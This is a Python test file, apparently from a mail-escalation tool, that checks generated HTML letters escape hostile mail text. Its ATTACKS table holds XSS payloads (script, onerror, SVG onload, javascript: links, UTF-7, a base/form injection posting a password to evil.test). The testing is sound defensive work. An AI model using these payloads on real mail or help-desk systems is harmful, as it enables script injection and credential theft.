"""No text of a mail becomes an element, an attribute or an address of a letter or of the digest.

Taught by Zammad CVE-2018-1000154 (a subject), FreeScout GHSA-jpq8 and GHSA-49pm (auto-links), Roundup CVE-2024-39124 to
-39126 and CVE-2025-53865.
"""

from __future__ import annotations

from urllib.parse import unquote, urlsplit

import html5lib
import pytest

from escalationd.mail.marks import token_in_address
from tests.support.cast import MAILBOX
from tests.support.hostile import play

ELEMENTS = frozenset("html head meta title style body div table tbody tr td p h1 span br b a".split())
ATTRIBUTES = frozenset(
    "lang charset name content class style role cellpadding cellspacing border width align valign bgcolor colspan"
    " dir href".split()
)
ATTACKS = {
    "script": "<script>alert(1)</script>",
    "image": '"><img src=x onerror=alert(1)>',
    "style": "</td></tr></table></style><style>*{display:none}</style>",
    "attribute": '" onmouseover="alert(1)" x="',
    "link": "<a href='javascript:alert(1)'>x</a> http://evil.test/?q=1 javascript:alert(1)",
    "comment": "<!--[if mso]><v:image src='http://evil.test'/><![endif]--><!-- --!>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "svg": "<svg/onload=alert(1)><math><mtext></mtext></math>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "base": "<base href=http://evil.test/><form action=http://evil.test><input name=password>",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_it_is_markup(tmp_path, attack: str) -> None:
    _, letters = play(tmp_path, ATTACKS[attack])

    assert {"brief", "decision", "digest", "question", "forgery"} <= {letter.kind for letter in letters}
    for letter in letters:
        for element in html5lib.parse(letter.html, namespaceHTMLElements=False).iter():
            if not isinstance(element.tag, str):
                continue  # a comment
            assert element.tag in ELEMENTS, (letter.kind, element.tag)
            assert set(element.attrib) <= ATTRIBUTES, (letter.kind, element.attrib)
            link = urlsplit(element.attrib.get("href", f"mailto:{MAILBOX}"))
            address = unquote(link.path)
            assert link.scheme == "mailto"
            assert address == MAILBOX or token_in_address(address, MAILBOX)
            assert "url(" not in element.attrib.get("style", "")


def test_no_page_fetches_anything(tmp_path) -> None:
    _, letters = play(tmp_path, "plain")

    for letter in letters:
        assert not any(
            word in letter.html for word in ("src=", "url(", "@import", "<link", "background=", "http://", "https://")
        )
